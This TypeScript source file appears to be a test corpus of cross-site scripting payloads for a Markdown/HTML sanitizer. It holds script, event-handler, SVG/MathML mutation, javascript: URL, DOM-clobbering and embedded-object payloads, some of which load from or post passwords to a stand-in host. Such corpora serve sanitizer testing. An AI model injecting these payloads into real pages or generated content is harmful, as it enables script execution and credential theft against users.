/** Attempts to get something executable through, by family; our own, after the ways that HTML has. */
export interface Payload {
  readonly family: string;
  readonly markdown: string;
}

const code = 'alert(1)';

const scripts = [
  `<script>${code}</script>`,
  `<SCRIPT>${code}</SCRIPT>`,
  `<script src=https://evil.example/x.js></script>`,
  `<script\n>${code}</script\n>`,
  `<script/x>${code}</script>`,
  `words <script>${code}</script> words`,
  `<div><script>${code}\n\n${code}</script></div>`,
  `<scr<script>ipt>${code}</scr</script>ipt>`,
  `<script><!--\n${code}//--></script>`,
  `<script type=module>import 'https://evil.example/x.js'</script>`,
  `<noscript><script>${code}</script></noscript>`,
  `<template><script>${code}</script></template>`,
  `<style>*{background:url(javascript:${code})}</style>`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<style><img src=x onerror=${code}></style>`,
  `<p style="background:url(https://evil.example/x.png)">words</p>`,
  `<p style="behavior:url(#x);width:expression(${code})">words</p>`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
];

const eventTags = [
  '<img src=x.jpg EVENT>',
  '<img src=gone.jpg EVENT>',
  '<p EVENT>words</p>',
  '<a href="https://example.org" EVENT>words</a>',
  '<svg EVENT><circle r=1></svg>',
  '<marquee EVENT>words</marquee>',
  '<details open EVENT><summary>words</summary></details>',
  '<video src="https://evil.example/v.mp4" EVENT></video>',
  '<input autofocus EVENT>',
  '<table EVENT><tr><td EVENT>words</table>',
  '<div\nEVENT\n>words</div>',
  '<div><b/EVENT>words</b></div>',
];

const events = [
  `onerror=${code}`,
  `ONLOAD="${code}"`,
  `onclick='${code}'`,
  `onfocus = ${code}`,
  `ontoggle=${code} onmouseover=${code}`,
];

const foreign = [
  `<svg><script>${code}</script></svg>`,
  `<svg><a xlink:href="javascript:${code}"><text>words</text></a></svg>`,
  `<svg><animate attributeName=href values=javascript:${code} /></svg>`,
  `<svg><foreignObject><iframe src=javascript:${code}></iframe></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg onload=${code}>"></use></svg>`,
  `<svg><style><img src=x onerror=${code}></style></svg>`,
  `<math><a xlink:href=javascript:${code}>words</a></math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${code}></style></mglyph></table></mtext></math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${code}></annotation-xml></math>`,
  `<svg></p><style><a id="</style><img src=x onerror=${code}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${code}>`,
  `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
  `<textarea><p title="</textarea><img src=x onerror=${code}>">`,
  `<title><p title="</title><img src=x onerror=${code}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${code}>">`,
  `<iframe><p title="</iframe><img src=x onerror=${code}>">`,
  `<noembed><p title="</noembed><img src=x onerror=${code}>"></noembed>`,
  `<select><template><img src=x onerror=${code}></template></select>`,
  `<table><svg><td><img src=x onerror=${code}></td></svg></table>`,
  `<p><!--><img src=x onerror=${code}>--></p>`,
  `<!--><svg onload=${code}>-->`,
  `<![CDATA[<img src=x onerror=${code}>]]>\n\n<svg onload=${code}>`,
  `<?x <img src=x onerror=${code}>?>\n\n<img src=x onerror=${code}>`,
  `<b title="x\n\n<img src=x onerror=${code}>\n\n">words</b>`,
  `<p title='"><img src=x onerror=${code}>'>words <svg onload=${code}></p>`,
  `<a title="--><img src=x onerror=${code}>" href=#><svg onload=${code}></a>`,
];

/** Addresses that run, as a browser reads them. */
const addresses = [
  `javascript:${code}`,
  `JaVaScRiPt:${code}`,
  `java&#115;cript:${code}`,
  `&#x6A;avascript:${code}`,
  `javascript&colon;${code}`,
  `java&Tab;script:${code}`,
  `java&NewLine;script:${code}`,
  `&#1;javascript:${code}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${code}<\\/script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `view-source:javascript:${code}`,
  `blob:https://evil.example/1`,
  `filesystem:https://evil.example/1`,
];

const rawAddressTags = [
  '<a href="ADDRESS">words</a>',
  "<A HREF='ADDRESS'>words</A>",
  '<img src="ADDRESS" alt=words>',
  '<iframe src="ADDRESS"></iframe>',
  '<object data="ADDRESS"></object>',
  '<embed src="ADDRESS">',
  '<form action="ADDRESS"><button formaction="ADDRESS">words</button></form>',
  '<blockquote cite="ADDRESS">words</blockquote><a href="ADDRESS">words</a>',
];

const markdownAddresses = [
  '[words](ADDRESS)',
  '[words](<ADDRESS> "title")',
  '![words](ADDRESS)',
  '[![words](ADDRESS)](ADDRESS)',
  '[words][x]\n\n[x]: ADDRESS',
  '[x]\n\n[x]: <ADDRESS> "title"',
  '![words][x]\n\n[x]: ADDRESS',
  ':::figure{file="ADDRESS" alt=words}\nwords [words](ADDRESS)\n:::',
  '| [words](ADDRESS) |\n|---|\n| words |',
  'words[^1]\n\n[^1]: [words](ADDRESS)',
];

/** Those that Markdown writes without quotes or blanks, so that it takes them for addresses. */
const plainAddresses = addresses.filter((address) => !/[\s"<>]/.test(address));

const embedded = [
  `<iframe srcdoc="<script>${code}</script>"></iframe>`,
  '<iframe src="https://evil.example"></iframe>',
  '<object data="https://evil.example/x.swf" type="application/x-shockwave-flash">words</object>',
  '<embed src="https://evil.example/x.swf">',
  '<applet code="Evil.class" archive="https://evil.example/x.jar"></applet>',
  '<div><embed src="data:text/html,words"></div>',
  '<portal src="https://evil.example"></portal>',
  '<video src="https://evil.example/v.mp4" poster="https://evil.example/p.jpg"></video>',
  '<audio src="https://evil.example/v.mp3" autoplay></audio>',
  '<picture><source srcset="https://evil.example/x.png"><img src=tram.jpg alt=words></picture>',
  '<img src=tram.jpg srcset="https://evil.example/x.png 2x" alt=words>',
  '<img src="https://evil.example/x.png" alt=words>',
  '<img src="//evil.example/x.png" alt=words>',
  '![words](https://evil.example/x.png)',
  '![words](//evil.example/x.png)',
  '<table background="https://evil.example/x.png"><tr><td>words</table>',
  '<input type=image src="https://evil.example/x.png" alt=words>',
  '<link rel=preload as=image href="https://evil.example/x.png">',
];

const pageParts = [
  `<meta http-equiv=refresh content="0;url=javascript:${code}">`,
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href=https://evil.example/>',
  `<base href="javascript:/a/-alert(1)///">`,
  `<form action=https://evil.example><input name=password type=password><button>words</button></form>`,
  `<form id=x></form><button form=x formaction=javascript:${code}>words</button>`,
  '<input name=attributes><input name=innerHTML>',
  '<a id=location href=https://example.org>words</a>',
  '<b id=currentScript>words</b>',
  '<a name=getElementById>words</a>',
  '<p class="byline">By Nobody</p>',
  '<span class="article-byline-x dateline">By Nobody</span>',
  '<div role=dialog tabindex=1 class=sr-only>words</div>',
  '<isindex action=javascript:alert(1) type=image>',
  '<dialog open>words</dialog>',
  '<map name=m><area href=javascript:alert(1)></map>',
  '<button popovertarget=x>words</button>',
];

function filled(templates: readonly string[], word: string, values: readonly string[]): string[] {
  return templates.flatMap((template) => values.map((value) => template.replaceAll(word, value)));
}

function family(name: string, markdowns: readonly string[]): Payload[] {
  return markdowns.map((markdown) => ({ family: name, markdown }));
}

export const payloads: readonly Payload[] = [
  ...family('script and style', scripts),
  ...family('event handlers', filled(eventTags, 'EVENT', events)),
  ...family('foreign and mutating', foreign),
  ...family('addresses in HTML', filled(rawAddressTags, 'ADDRESS', addresses)),
  ...family('addresses in Markdown', filled(markdownAddresses, 'ADDRESS', plainAddresses)),
  ...family('embedded', embedded),
  ...family('parts of pages', pageParts),
  ...family(
    'inside Markdown',
    [...scripts, ...foreign].flatMap((html) => [
      `> - ${html.replaceAll('\n', '\n>   ')}`,
      `:::pullquote{by="${html.replaceAll('"', "'").replaceAll('\n', ' ')}"}\n${html}\n:::`,
    ]),
  ),
];
